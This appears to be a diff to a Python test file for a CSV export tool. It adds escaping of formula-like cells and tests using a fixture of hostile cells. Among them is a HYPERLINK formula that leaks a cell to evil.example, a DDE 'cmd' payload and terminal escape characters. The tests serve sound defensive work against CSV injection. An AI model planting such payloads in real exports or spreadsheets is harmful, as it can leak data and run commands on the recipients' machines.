@@ -70,7 +70,9 @@ def _same_in_excel(a: tuple, b: tuple) -> bool:
 def _csv_text(v) -> str:
     """A whole-number or text cell as CSV prints it: NULL as an empty field, 3 not 3.0."""
     v = _value(v)
-    return "" if v is None else str(int(v)) if isinstance(v, float) else str(v)
+    text = "" if v is None else str(int(v)) if isinstance(v, float) else str(v)
+    # text a spreadsheet would run as a formula is written with a leading ' (CSV injection)
+    return "'" + text if isinstance(v, str) and text[:1] in ("=", "+", "-", "@") else text
 
 
 def test_database_has_rows_in_every_table(conn):
@@ -102,7 +104,7 @@ def test_csv_round_trip(conn, tmp_path):
             else:
                 assert list(back[col]) == [_csv_text(v) for v in want], (table, col)
     actions = pd.read_csv(tmp_path / "actions.csv", keep_default_na=False, dtype=str)
-    assert FORMULA in set(actions["text"]) and "Head of Service – “Early Help”" in set(actions["lead"])
+    assert "'" + FORMULA in set(actions["text"]) and "Head of Service – “Early Help”" in set(actions["lead"])
     documents = pd.read_csv(tmp_path / "documents.csv", dtype=str, keep_default_na=False)
     assert "not a supported format: PDF, Word (.docx) or HTML" in set(documents["error"])
 
@@ -168,3 +170,54 @@ def test_cli_export(db_path, tmp_path):
     assert result.exit_code == 2
     result = runner.invoke(app, ["export", "--db", str(tmp_path / "none.db"), "--format", "csv", "-o", str(tmp_path)])
     assert result.exit_code == 2 and not (tmp_path / "none.db").exists()
+
+
+# ---- hostile cells (issue 15) ---------------------------------------------------------------------
+HOSTILE = {
+    "text": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "lead": "=cmd|' /C calc'!A0",
+    "progress": "+1+cmd",
+    "success_measure": "@SUM(1+1)",
+    "timescale": "-2+3",
+    "ref": "1.1\x00\x07\x1b[31m",
+}
+
+
+@pytest.fixture()
+def hostile_db(db_path, tmp_path):
+    """A copy of the database whose first action's cells are formulas and control characters."""
+    copy = tmp_path / "hostile.db"
+    src = sqlite3.connect(db_path)
+    dst = sqlite3.connect(copy)
+    src.backup(dst)
+    src.close()
+    sets = ", ".join(f"{c} = ?" for c in HOSTILE)
+    dst.execute(f"UPDATE actions SET {sets} WHERE id = (SELECT MIN(id) FROM actions)", tuple(HOSTILE.values()))
+    dst.commit()
+    dst.close()
+    return copy
+
+
+def test_csv_neutralises_formulas_and_drops_control_characters(hostile_db, tmp_path):
+    conn = sqlite3.connect(hostile_db)
+    export_tables(conn, "csv", tmp_path / "out")
+    conn.close()
+    raw = (tmp_path / "out" / "actions.csv").read_bytes()
+    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM unless asked
+    assert b"\x00" not in raw and b"\x07" not in raw and b"\x1b" not in raw
+    first = pd.read_csv(tmp_path / "out" / "actions.csv", dtype=str, keep_default_na=False).iloc[0]
+    for col, value in HOSTILE.items():
+        if col == "ref":
+            assert first[col] == "1.1[31m"  # the escape's ESC is gone, so it is inert text
+        else:
+            assert first[col] == "'" + value, col
+
+
+def test_export_bom_option_writes_utf8_with_bom(hostile_db, tmp_path):
+    runner = CliRunner()
+    result = runner.invoke(app, ["export", "--db", str(hostile_db), "--format", "csv", "--bom", "-o", str(tmp_path / "x")])
+    assert result.exit_code == 0, result.output
+    for f in (tmp_path / "x").iterdir():
+        assert f.read_bytes().startswith(b"\xef\xbb\xbf"), f.name
+    back = pd.read_csv(tmp_path / "x" / "actions.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert "'" + HOSTILE["lead"] in set(back["lead"])
